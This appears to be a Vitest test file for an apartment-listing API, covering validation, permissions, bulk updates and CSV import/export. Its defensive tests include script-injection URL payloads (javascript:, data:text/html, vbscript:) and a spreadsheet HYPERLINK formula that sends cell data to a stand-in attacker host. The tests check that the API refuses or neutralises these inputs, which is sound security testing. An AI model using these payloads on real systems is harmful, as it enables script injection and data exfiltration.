import iconv from 'iconv-lite';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { buildingNumbers } from '../../db/schema';
import { parseCsv } from './apartment-csv';
import type { ApartmentOverrides } from '@planvy/shared/test/arrange';
import type { ImportResult, ProjectType } from '@planvy/shared';
import { arrangeFor, createTestApp, type TestApp } from '../../../test/harness';

let t: TestApp;
type U = Awaited<ReturnType<TestApp['createUser']>>;
let admin: U, client: U, otherClient: U, broker: U;
let saleProject: number, rentalProject: number, otherProject: number;

beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

const createProject = async (ownerId: number, type: ProjectType) =>
  (await arrangeFor(t, admin.token).project({ owner: ownerId, type, name: `P ${type}` })).id;

const addApartment = (projectId: number, body: ApartmentOverrides = {}) =>
  arrangeFor(t, admin.token).apartment(projectId, body);

const list = async (projectId: number, token = admin.token) =>
  (await t.as(token, { method: 'GET', url: `/api/v1/client/apartments/${projectId}` })).json().apartments as {
    id: number;
    status: string;
    price: number | null;
    bostad: string;
  }[];

beforeEach(async () => {
  await t.reset();
  admin = await t.createUser('admin');
  client = await t.createUser('client');
  otherClient = await t.createUser('client');
  broker = await t.createUser('broker');
  saleProject = await createProject(client.id, 'sale');
  rentalProject = await createProject(client.id, 'rental');
  otherProject = await createProject(otherClient.id, 'tomter');
  await t.as(admin.token, {
    method: 'PUT',
    url: `/api/v1/admin/project/${saleProject}`,
    payload: { broker_id: broker.id },
  });
});

describe('creating and reading apartments', () => {
  it('creates an apartment with every field in its transit form', async () => {
    const a = await addApartment(saleProject, {
      bostad: '1101',
      rooms: '3',
      floor: '1',
      square: '70,5',
      price: '2 495 000',
      fee: 3500,
      garden_size: '',
      status: 'preorder',
      inactive: '0',
      link: 'https://example.com/1101',
      description: 'Hörnlägenhet',
      info: JSON.stringify([{ url: 'https://example.com/plan.pdf' }]),
    });
    expect(a).toMatchObject({
      bostad: '1101',
      square: 70.5,
      price: 2495000,
      fee: 3500,
      garden_size: null,
      status: 'preorder',
      inactive: '0',
      file_name: '',
      info: '[{"url":"https://example.com/plan.pdf"}]',
      statistic_count: 0,
    });
    const got = await t.as(client.token, { method: 'GET', url: `/api/v1/client/apartment/${a.id}` });
    expect(got.json().apartment.id).toBe(a.id);
    expect((await list(saleProject)).map((x) => x.id)).toEqual([a.id]);
    // The admin list is also reachable as /admin/apartments/{projectId}.
    const adminList = await t.as(admin.token, {
      method: 'GET',
      url: `/api/v1/admin/apartments/${saleProject}`,
    });
    expect(adminList.json().apartments).toHaveLength(1);
  });

  it.each([
    ['a status of another project type', { status: 'leased' }, 'status'],
    ['an unknown status', { status: 'gone' }, 'status'],
    ['a negative price', { price: -1 }, 'price'],
    ['a non-numeric fee', { fee: 'lots' }, 'fee'],
    ['a negative square', { square: '-3' }, 'square'],
    ['a non-numeric garden size', { garden_size: 'big' }, 'garden_size'],
    ['an inactive flag that is not 1/0', { inactive: 'maybe' }, 'inactive'],
    ['info that is not a list of urls', { info: '{"url": 5}' }, 'info'],
    ['an over-long bostad', { bostad: 'x'.repeat(101) }, 'bostad'],
  ])('refuses %s with 422 and stores nothing', async (_label, body, field) => {
    const res = await t.as(admin.token, {
      method: 'POST',
      url: `/api/v1/admin/apartment/${saleProject}`,
      payload: body,
    });
    expect(res.statusCode).toBe(422);
    expect(Object.keys(res.json().errors)).toContain(field);
    expect(await list(saleProject)).toEqual([]);
  });

  it.each([
    ['javascript:alert(1)', 'link'],
    ['java\tscript:alert(1)', 'link'],
    ['  JAVASCRIPT:alert(1)', 'link'],
    ['&#106;avascript:alert(1)', 'link'],
    ['data:text/html,<script>alert(1)</script>', 'link'],
    ['vbscript:msgbox(1)', 'link'],
    ['/relative/junk', 'link'],
    ['//evil.example/x', 'link'],
    ['https:evil.example', 'link'],
    ['javascript:alert(1)', 'info'],
    ['mailto:a@b.example', 'info'],
    ['data:application/pdf;base64,AAAA', 'info'],
  ])('refuses %s as an apartment %s with 422 naming the field, on create and update', async (url, field) => {
    const body = field === 'link' ? { link: url } : { info: JSON.stringify([{ url }]) };
    const created = await t.as(admin.token, {
      method: 'POST',
      url: `/api/v1/admin/apartment/${saleProject}`,
      payload: { bostad: 'L', ...body },
    });
    expect(created.statusCode).toBe(422);
    expect(Object.keys(created.json().errors).join()).toMatch(new RegExp(`^${field}`));
    const a = await addApartment(saleProject, { bostad: 'L' });
    const updated = await t.as(admin.token, {
      method: 'PUT',
      url: `/api/v1/admin/apartment/${a.id}`,
      payload: body,
    });
    expect(updated.statusCode).toBe(422);
    expect(Object.keys(updated.json().errors).join()).toMatch(new RegExp(`^${field}`));
    expect((await list(saleProject))[0]).toMatchObject({ link: '', info: '[]' });
  });

  it('accepts web, mailto: and tel: links, and web info files', async () => {
    const a = await addApartment(saleProject, {
      bostad: 'M',
      link: 'mailto:info@eken.example',
      info: JSON.stringify([{ url: 'https://eken.example/a.pdf' }]),
    });
    expect(a.link).toBe('mailto:info@eken.example');
    for (const link of ['tel:+46 8 123 45 67', 'https://eken.example/1001']) {
      const res = await t.as(admin.token, {
        method: 'PUT',
        url: `/api/v1/admin/apartment/${a.id}`,
        payload: { link },
      });
      expect(res.statusCode).toBe(200);
      expect(res.json().apartment.link).toBe(link);
    }
  });

  it('accepts rental statuses on rental projects only', async () => {
    const a = await addApartment(rentalProject, { bostad: 'A', status: 'leased' });
    expect(a.status).toBe('leased');
    const res = await t.as(admin.token, {
      method: 'PUT',
      url: `/api/v1/admin/apartment/${a.id}`,
      payload: { status: 'sold' },
    });
    expect(res.statusCode).toBe(422);
    expect((await list(rentalProject))[0]!.status).toBe('leased');
  });

  it('refuses a building number of another project', async () => {
    const [b] = await t.db
      .insert(buildingNumbers)
      .values({ project_id: otherProject, label: '9' })
      .returning();
    const res = await t.as(admin.token, {
      method: 'POST',
      url: `/api/v1/admin/apartment/${saleProject}`,
      payload: { bostad: 'x', building_number_id: b!.id },
    });
    expect(res.statusCode).toBe(422);
    expect(res.json().errors.building_number_id).toBeDefined();
  });
});

describe('roles', () => {
  it('lets the owner and the broker edit plain fields but not building numbers or zone links', async () => {
    const a = await addApartment(saleProject, { bostad: '1' });
    const [b] = await t.db
      .insert(buildingNumbers)
      .values({ project_id: saleProject, label: '2' })
      .returning();
    for (const user of [client, broker]) {
      const ok = await t.as(user.token, {
        method: 'PUT',
        url: `/api/v1/client/apartment/${a.id}`,
        payload: { price: 100, status: 'reserved', description: 'x', info: '[]' },
      });
      expect(ok.statusCode).toBe(200);
      for (const payload of [{ building_number_id: b!.id }, { file_name: 'plan.svg' }]) {
        const res = await t.as(user.token, {
          method: 'PUT',
          url: `/api/v1/client/apartment/${a.id}`,
          payload,
        });
        expect(res.statusCode).toBe(403);
      }
      const del = await t.as(user.token, { method: 'DELETE', url: `/api/v1/client/apartment/${a.id}` });
      expect(del.statusCode).toBe(403);
      const create = await t.as(user.token, {
        method: 'POST',
        url: `/api/v1/client/apartment/${saleProject}`,
        payload: {},
      });
      expect(create.statusCode).toBe(403);
    }
    const after = (await list(saleProject))[0]!;
    expect(after).toMatchObject({ price: 100, status: 'reserved' });
  });

  it('hides another client’s apartments behind 404 on every route', async () => {
    const a = await addApartment(otherProject, { bostad: 'T1' });
    const routes = [
      ['GET', `/api/v1/client/apartments/${otherProject}`],
      ['GET', `/api/v1/client/apartment/${a.id}`],
      ['PUT', `/api/v1/client/apartment/${a.id}`],
      ['DELETE', `/api/v1/client/apartment/${a.id}`],
      ['GET', `/api/v1/client/apartment/${a.id}/history`],
      ['GET', `/api/v1/client/apartments/${otherProject}/export`],
      ['POST', `/api/v1/client/apartments/${otherProject}/import`],
      ['POST', `/api/v1/client/apartment/${otherProject}`],
    ] as const;
    for (const user of [client, broker]) {
      for (const [method, url] of routes) {
        const res = await t.as(user.token, {
          method,
          url,
          payload: method === 'GET' || method === 'DELETE' ? undefined : { price: 'bad' },
        });
        expect(res.statusCode, `${method} ${url}`).toBe(404);
      }
      const mass = await t.as(user.token, {
        method: 'POST',
        url: '/api/v2/apartments/update-status',
        payload: { apartments: [a.id], status: 'sold', projectId: otherProject },
      });
      expect(mass.statusCode).toBe(404);
      expect(
        (await t.as(user.token, { method: 'GET', url: `/api/v1/admin/apartments/${saleProject}` }))
          .statusCode,
      ).toBe(403);
    }
    expect((await list(otherProject))[0]!.status).toBe('sale');
  });

  it('answers 401 without a token', async () => {
    const res = await t.app.inject({ method: 'GET', url: `/api/v1/client/apartments/${saleProject}` });
    expect(res.statusCode).toBe(401);
  });

  it('lets only admins delete', async () => {
    const a = await addApartment(saleProject, { bostad: '1' });
    const res = await t.as(admin.token, { method: 'DELETE', url: `/api/v1/admin/apartment/${a.id}` });
    expect(res.statusCode).toBe(204);
    expect(await list(saleProject)).toEqual([]);
  });
});

describe('mass status update', () => {
  it('changes all, records history for each, and is usable by the owner', async () => {
    const a = await addApartment(saleProject, { bostad: '1' });
    const b = await addApartment(saleProject, { bostad: '2', status: 'sold' });
    const res = await t.as(client.token, {
      method: 'POST',
      url: '/api/v2/apartments/update-status',
      payload: { apartments: [a.id, b.id], status: 'sold', projectId: saleProject },
    });
    expect(res.statusCode).toBe(200);
    expect((await list(saleProject)).map((x) => x.status)).toEqual(['sold', 'sold']);
    const hist = (
      await t.as(client.token, { method: 'GET', url: `/api/v1/client/apartment/${a.id}/history` })
    ).json().history;
    expect(hist[0]).toMatchObject({ from_status: 'sale', to_status: 'sold', user: { id: client.id } });
    expect(hist).toHaveLength(2);
    // b was already sold: no new history row.
    const histB = (
      await t.as(admin.token, { method: 'GET', url: `/api/v1/admin/apartment/${b.id}/history` })
    ).json().history;
    expect(histB).toHaveLength(1);
  });

  it('is all or nothing when one apartment belongs to another project', async () => {
    const a = await addApartment(saleProject, { bostad: '1' });
    const foreign = await addApartment(otherProject, { bostad: 'T' });
    const res = await t.as(admin.token, {
      method: 'POST',
      url: '/api/v2/apartments/update-status',
      payload: { apartments: [a.id, foreign.id], status: 'reserved', projectId: saleProject },
    });
    expect(res.statusCode).toBe(422);
    expect(res.json().errors.apartments[0]).toContain(String(foreign.id));
    expect((await list(saleProject))[0]!.status).toBe('sale');
    expect((await list(otherProject))[0]!.status).toBe('sale');
  });

  it('refuses a status that does not apply to the project type', async () => {
    const a = await addApartment(saleProject, { bostad: '1' });
    const res = await t.as(admin.token, {
      method: 'POST',
      url: '/api/v2/apartments/update-status',
      payload: { apartments: [a.id], status: 'leased', projectId: saleProject },
    });
    expect(res.statusCode).toBe(422);
    expect((await list(saleProject))[0]!.status).toBe('sale');
  });

  it('records who changed a status in the form, and when', async () => {
    const a = await addApartment(saleProject, { bostad: '1' });
    await t.as(broker.token, {
      method: 'PUT',
      url: `/api/v1/client/apartment/${a.id}`,
      payload: { status: 'reserved' },
    });
    await t.as(broker.token, {
      method: 'PUT',
      url: `/api/v1/client/apartment/${a.id}`,
      payload: { price: 5 },
    });
    const hist = (
      await t.as(admin.token, { method: 'GET', url: `/api/v1/admin/apartment/${a.id}/history` })
    ).json().history;
    expect(hist.map((h: { to_status: string }) => h.to_status)).toEqual(['reserved', 'sale']);
    expect(hist[0].user.id).toBe(broker.id);
    expect(Date.parse(hist[0].changed_at)).not.toBeNaN();
  });
});

describe('mass building number', () => {
  const massBuilding = (token: string, payload: Record<string, unknown>) =>
    t.as(token, { method: 'POST', url: '/api/v2/apartments/update-building-number', payload });
  const buildingsOf = async (projectId: number) =>
    Object.fromEntries(
      (
        (await t.as(admin.token, { method: 'GET', url: `/api/v1/admin/apartments/${projectId}` })).json()
          .apartments as { bostad: string; building_number_id: number | null }[]
      ).map((a) => [a.bostad, a.building_number_id]),
    );
  const building = async (projectId: number, label: string) =>
    (await arrangeFor(t, admin.token).buildingNumber(projectId, label)).id;

  it('gives the checked apartments one building number, then none, audited, in one request each', async () => {
    const a = await addApartment(saleProject, { bostad: '1' });
    const b = await addApartment(saleProject, { bostad: '2' });
    await addApartment(saleProject, { bostad: '3' });
    const house = await building(saleProject, 'B');
    const res = await massBuilding(admin.token, {
      apartments: [a.id, b.id],
      building_number_id: house,
      projectId: saleProject,
      versions: { [a.id]: a.version, [b.id]: b.version },
    });
    expect(res.statusCode, res.body).toBe(200);
    const saved = res.json().apartments as { id: number; building_number_id: number; version: number }[];
    expect(saved.map((x) => [x.id, x.building_number_id])).toEqual([
      [a.id, house],
      [b.id, house],
    ]);
    // The answer carries the new versions, so the table can go on without a reload.
    expect(saved[0]!.version).toBeGreaterThan(a.version);
    expect(await buildingsOf(saleProject)).toEqual({ 1: house, 2: house, 3: null });

    const entry = (await t.as(admin.token, { method: 'GET', url: '/api/v1/admin/audit?limit=1' })).json()
      .entries[0];
    expect(entry).toMatchObject({
      action: 'buildings',
      entity_type: 'apartment',
      entity_id: null,
      project: { id: saleProject },
      detail: { building_number_id: house, count: 2, apartments: [a.id, b.id] },
    });

    const cleared = await massBuilding(admin.token, {
      apartments: [b.id],
      building_number_id: null,
      projectId: saleProject,
    });
    expect(cleared.statusCode).toBe(200);
    expect(await buildingsOf(saleProject)).toEqual({ 1: house, 2: null, 3: null });
  });

  it('is for admins only: the owner and the broker get 403 and nothing changes', async () => {
    const a = await addApartment(saleProject, { bostad: '1' });
    const house = await building(saleProject, 'B');
    for (const user of [client, broker]) {
      const res = await massBuilding(user.token, {
        apartments: [a.id],
        building_number_id: house,
        projectId: saleProject,
      });
      expect(res.statusCode).toBe(403);
    }
    expect(await buildingsOf(saleProject)).toEqual({ 1: null });
  });

  it('changes nothing for a building or an apartment of another project, or a stale version', async () => {
    const a = await addApartment(saleProject, { bostad: '1' });
    const foreign = await addApartment(otherProject, { bostad: 'T' });
    const house = await building(saleProject, 'B');
    const otherHouse = await building(otherProject, 'X');

    const wrongHouse = await massBuilding(admin.token, {
      apartments: [a.id],
      building_number_id: otherHouse,
      projectId: saleProject,
    });
    expect(wrongHouse.statusCode).toBe(422);
    expect(wrongHouse.json().errors.building_number_id).toBeDefined();

    const wrongApartment = await massBuilding(admin.token, {
      apartments: [a.id, foreign.id],
      building_number_id: house,
      projectId: saleProject,
    });
    expect(wrongApartment.statusCode).toBe(422);
    expect(wrongApartment.json().errors.apartments[0]).toContain(String(foreign.id));

    const stale = await massBuilding(admin.token, {
      apartments: [a.id],
      building_number_id: house,
      projectId: saleProject,
      versions: { [a.id]: a.version + 5 },
    });
    expect(stale.statusCode).toBe(409);

    const bad = await massBuilding(admin.token, {
      apartments: [],
      building_number_id: 'B',
      projectId: saleProject,
    });
    expect(bad.statusCode).toBe(422);
    expect(bad.json()).toMatchObject({ status_code: 422 });
    expect(bad.body).not.toMatch(/select|stack/i);

    expect(await buildingsOf(saleProject)).toEqual({ 1: null });
    expect(await buildingsOf(otherProject)).toEqual({ T: null });
  });
});

describe('import and export', () => {
  it('exports a UTF-16 CSV that imports back unchanged', async () => {
    await addApartment(saleProject, {
      bostad: 'Lgh 1',
      square: 70.5,
      price: 1000000,
      description: 'Åsikt; "citat"',
      status: 'sold',
    });
    await addApartment(saleProject, { bostad: 'Lgh 2', info: '[{"url":"https://x.se/a.pdf"}]' });
    const res = await t.as(client.token, {
      method: 'GET',
      url: `/api/v1/client/apartments/${saleProject}/export?lang=sv`,
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    expect(res.headers['content-disposition']).toContain('attachment');
    expect([...res.rawPayload.subarray(0, 2)]).toEqual([0xff, 0xfe]);
    expect(res.rawPayload.subarray(2).toString('utf16le')).toContain('70,5');

    const preview = await t.as(admin.token, {
      method: 'POST',
      url: `/api/v1/admin/apartments/${saleProject}/import`,
      payload: { csv_base64: res.rawPayload.toString('base64') },
    });
    expect(preview.statusCode).toBe(200);
    expect(preview.json().summary).toEqual({ new: 0, changed: 0, unchanged: 2, invalid: 0 });
  });

  it('previews new, changed, unchanged and invalid rows without writing, then applies in one go', async () => {
    await addApartment(saleProject, { bostad: '1', price: 100 });
    await addApartment(saleProject, { bostad: '2', price: 200 });
    const csv = 'Bostad;Pris;Status\n1;150;Såld\n2;200;\n3;300;Till salu\n4;-5;\n5;10;Uthyrd\n';
    const preview = await t.as(admin.token, {
      method: 'POST',
      url: `/api/v1/admin/apartments/${saleProject}/import`,
      payload: { csv },
    });
    const body = preview.json();
    expect(body.summary).toEqual({ new: 1, changed: 1, unchanged: 1, invalid: 2 });
    expect(body.rows.find((r: { bostad: string }) => r.bostad === '1').changes).toEqual(['price', 'status']);
    expect(body.rows.find((r: { bostad: string }) => r.bostad === '4').errors.price).toBeDefined();
    expect(body.rows.find((r: { bostad: string }) => r.bostad === '5').errors.status).toBeDefined();
    expect(body.applied).toBe(false);
    expect(await list(saleProject)).toHaveLength(2);

    const applied = await t.as(admin.token, {
      method: 'POST',
      url: `/api/v1/admin/apartments/${saleProject}/import?apply=1`,
      payload: { csv },
    });
    expect(applied.json().applied).toBe(true);
    const after = await list(saleProject);
    expect(after.map((a) => [a.bostad, a.price, a.status])).toEqual([
      ['1', 150, 'sold'],
      ['2', 200, 'sale'],
      ['3', 300, 'sale'],
    ]);
  });

  it('exports cells a spreadsheet would run as text, and imports them back unchanged', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A2,"Öppna")';
    await addApartment(saleProject, { bostad: formula, floor: '-1', description: '@SUM(1+1)' });
    const res = await t.as(admin.token, {
      method: 'GET',
      url: `/api/v1/admin/apartments/${saleProject}/export?lang=en`,
    });
    const [, row] = res.rawPayload.subarray(2).toString('utf16le').split('\r\n');
    const cells = row!.split('\t');
    expect(cells[0]).toBe(`"'${formula.replace(/"/g, '""')}"`);
    expect(cells[2]).toBe('-1');
    expect(cells[11]).toBe("'@SUM(1+1)");

    const preview = await t.as(admin.token, {
      method: 'POST',
      url: `/api/v1/admin/apartments/${saleProject}/import`,
      payload: { csv_base64: res.rawPayload.toString('base64') },
    });
    expect(preview.json().summary).toEqual({ new: 0, changed: 0, unchanged: 1, invalid: 0 });
  });

  // 40,000 rows through the import: about 20 s on a quiet machine, more when the CPU is shared.
  it('imports 20,000 new rows in one go, and 20,000 changes to them', async () => {
    const file = (price: number) =>
      ['Bostad;Rum;Våning;Boarea;Pris;Avgift;Status;Beskrivning']
        .concat(
          Array.from(
            { length: 20_000 },
            (_, i) =>
              `L${i};${(i % 5) + 1};${i % 12};${30 + (i % 90)},5;${price + i};${2000 + (i % 3000)};Till salu;Rad ${i}`,
          ),
        )
        .join('\n');
    const created = await t.as(admin.token, {
      method: 'POST',
      url: `/api/v1/admin/apartments/${saleProject}/import?apply=1`,
      payload: { csv: file(1_000_000) },
    });
    expect(created.statusCode).toBe(200);
    expect(created.json().summary).toEqual({ new: 20_000, changed: 0, unchanged: 0, invalid: 0 });
    const changed = await t.as(admin.token, {
      method: 'POST',
      url: `/api/v1/admin/apartments/${saleProject}/import?apply=1`,
      payload: { csv: file(2_000_000).replace(/Till salu/g, 'Såld') },
    });
    expect(changed.statusCode).toBe(200);
    expect(changed.json().summary).toEqual({ new: 0, changed: 20_000, unchanged: 0, invalid: 0 });
    const all = await list(saleProject);
    expect(all).toHaveLength(20_000);
    const last = all.find((a) => a.bostad === 'L19999')!;
    expect([last.price, last.status]).toEqual([2_019_999, 'sold']);
    const hist = await t.as(admin.token, {
      method: 'GET',
      url: `/api/v1/admin/apartment/${last.id}/history`,
    });
    expect(hist.json().history.map((h: { to_status: string }) => h.to_status)).toEqual(['sold', 'sale']);
  }, 90_000);

  it('refuses a file with a character that cannot be stored, writing nothing', async () => {
    const csv = Buffer.from('Bostad;Beskrivning\n1;ok\n2;bad\u0000byte\n', 'utf8');
    const res = await t.as(admin.token, {
      method: 'POST',
      url: `/api/v1/admin/apartments/${saleProject}/import?apply=1`,
      payload: { csv_base64: csv.toString('base64') },
    });
    expect(res.statusCode).toBe(422);
    expect(Object.keys(res.json().errors)).toEqual(['csv']);
    expect(await list(saleProject)).toHaveLength(0);
  });

  it('lets only admins import, and create building numbers through it', async () => {
    const res = await t.as(client.token, {
      method: 'POST',
      url: `/api/v1/client/apartments/${saleProject}/import?apply=1`,
      payload: { csv: 'Bostad;Husnummer\n1;Z\n', create_building_numbers: true },
    });
    expect(res.statusCode).toBe(403);
    expect(await buildingLabels(saleProject)).toEqual([]);
    expect(await list(saleProject)).toHaveLength(0);
  });
});

const buildingLabels = async (projectId: number) =>
  (
    (await t.as(admin.token, { method: 'GET', url: `/api/v1/building-numbers/${projectId}` })).json()
      .building_numbers as { label: string }[]
  ).map((b) => b.label);

const importFile = (projectId: number, bytes: Buffer, query = '', extra: object = {}) =>
  t.as(admin.token, {
    method: 'POST',
    url: `/api/v1/admin/apartments/${projectId}/import${query}`,
    payload: { csv_base64: bytes.toString('base64'), ...extra },
  });

const rowOf = (body: ImportResult, bostad: string) => body.rows.find((r) => r.bostad === bostad)!;

describe('imports from Swedish Excel (issue 22)', () => {
  /** "CSV (semikolonavgränsad)" from Excel on Swedish Windows: semicolons, Windows-1252, CRLF. */
  const excelFile = (lines: string[]) => iconv.encode(`${lines.join('\r\n')}\r\n`, 'windows-1252');
  const sheet = excelFile([
    'Bostad;Rum;Våning;Boarea;Pris;Status;Husnummer',
    'Lgh 1;3;2;70,5;1 995 000;Såld;A',
    'Lgh 2;2;1;54;1 495 000;Till salu;B',
    'Lgh 3;4;3;92,5;2 995 000;reserverad;C',
    'Lgh 4;1;0;31;995 000;Kommande;b',
  ]);

  beforeEach(async () => {
    await t.db.insert(buildingNumbers).values({ project_id: saleProject, label: 'A' });
  });

  it('previews the values and the building numbers the project lacks, writing nothing', async () => {
    const res = await importFile(saleProject, sheet);
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body).toMatchObject({
      encoding: 'windows-1252',
      delimiter: ';',
      unknown_columns: [],
      missing_building_numbers: ['B', 'C'],
      created_building_numbers: [],
      summary: { new: 4, changed: 0, unchanged: 0, invalid: 0 },
      applied: false,
    });
    expect(rowOf(body, 'Lgh 1')).toMatchObject({
      kind: 'new',
      missing_building_number: null,
      values: {
        rooms: '3',
        floor: '2',
        square: 70.5,
        price: 1995000,
        status: 'sold',
        building_number_id: 'A',
      },
    });
    expect(rowOf(body, 'Lgh 3')).toMatchObject({
      missing_building_number: 'C',
      values: { status: 'preorder', building_number_id: 'C' },
    });
    // "b" is building number B, spelled as the file first writes it.
    expect(rowOf(body, 'Lgh 4').missing_building_number).toBe('b');
    expect(await list(saleProject)).toHaveLength(0);
    expect(await buildingLabels(saleProject)).toEqual(['A']);
  });

  it('applied with create_building_numbers, creates them and imports every row in one pass', async () => {
    const res = await importFile(saleProject, sheet, '?apply=1', { create_building_numbers: true });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({
      summary: { new: 4, changed: 0, unchanged: 0, invalid: 0 },
      missing_building_numbers: [],
      created_building_numbers: ['B', 'C'],
      applied: true,
    });
    const buildings = (
      await t.as(admin.token, { method: 'GET', url: `/api/v1/building-numbers/${saleProject}` })
    ).json().building_numbers as { id: number; label: string }[];
    expect(buildings.map((b) => b.label)).toEqual(['A', 'B', 'C']);
    const labelOf = new Map(buildings.map((b) => [b.id, b.label]));
    const stored = (await list(saleProject)) as unknown as {
      bostad: string;
      floor: string;
      status: string;
      square: number;
      building_number_id: number;
    }[];
    expect(
      stored.map((a) => [a.bostad, a.floor, a.square, a.status, labelOf.get(a.building_number_id)]),
    ).toEqual([
      ['Lgh 1', '2', 70.5, 'sold', 'A'],
      ['Lgh 2', '1', 54, 'sale', 'B'],
      ['Lgh 3', '3', 92.5, 'preorder', 'C'],
      ['Lgh 4', '0', 31, 'upcoming', 'B'],
    ]);
    // Audited as every applied import, with the building numbers it made.
    const audit = (await t.as(admin.token, { method: 'GET', url: '/api/v1/admin/audit?limit=1' })).json();
    expect(audit.entries[0]).toMatchObject({
      action: 'import',
      detail: { new: 4, invalid: 0, building_numbers_created: 'B, C' },
    });
  });

  it('applied without create_building_numbers, refuses the rows naming them, as before', async () => {
    const res = await importFile(saleProject, sheet, '?apply=1');
    const body = res.json();
    expect(body).toMatchObject({
      summary: { new: 1, changed: 0, unchanged: 0, invalid: 3 },
      missing_building_numbers: ['B', 'C'],
      created_building_numbers: [],
    });
    expect(rowOf(body, 'Lgh 2').errors).toEqual({
      building_number: ['No building number "B" in this project'],
    });
    expect((await list(saleProject)).map((a) => a.bostad)).toEqual(['Lgh 1']);
    expect(await buildingLabels(saleProject)).toEqual(['A']);
  });

  it('round trip: the export, and the same data re-saved by Swedish Excel, import with no changes', async () => {
    const [b] = await t.db
      .insert(buildingNumbers)
      .values({ project_id: saleProject, label: 'Hus 2' })
      .returning();
    await addApartment(saleProject, {
      bostad: 'Lgh 1101',
      rooms: '3 rok',
      floor: '1',
      square: 70.5,
      price: 1995000,
      fee: 3100.5,
      status: 'sold',
      building_number_id: b!.id,
      description: 'Hörn; "söder"\nmed kvällssol – 5 €',
      link: 'https://example.com/1101',
    });
    await addApartment(saleProject, { bostad: 'Lgh 1102', status: 'preorder', inactive: '1' });
    await addApartment(saleProject, { bostad: 'Lgh 1103', info: '[{"url":"https://x.se/a.pdf"}]' });

    for (const lang of ['sv', 'en']) {
      const exported = await t.as(admin.token, {
        method: 'GET',
        url: `/api/v1/admin/apartments/${saleProject}/export?lang=${lang}`,
      });
      const back = (await importFile(saleProject, exported.rawPayload)).json();
      expect(back).toMatchObject({ encoding: 'utf-16le', delimiter: '\t' });
      expect(back.summary, lang).toEqual({ new: 0, changed: 0, unchanged: 3, invalid: 0 });
    }

    // Excel opens the Swedish export and saves it as "CSV (semikolonavgränsad)": semicolons,
    // cells with ; " or a line break quoted, Windows-1252.
    const exported = await t.as(admin.token, {
      method: 'GET',
      url: `/api/v1/admin/apartments/${saleProject}/export?lang=sv`,
    });
    const rows = parseCsv(exported.rawPayload.subarray(2).toString('utf16le'));
    const cell = (v: string) => (/[;"\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
    const resaved = iconv.encode(
      rows.map((r) => r.map(cell).join(';')).join('\r\n') + '\r\n',
      'windows-1252',
    );
    expect(resaved.includes(Buffer.from('Våning', 'utf8'))).toBe(false);
    const back = (await importFile(saleProject, resaved)).json();
    expect(back).toMatchObject({ encoding: 'windows-1252', delimiter: ';', unknown_columns: [] });
    expect(back.summary).toEqual({ new: 0, changed: 0, unchanged: 3, invalid: 0 });
  });
});
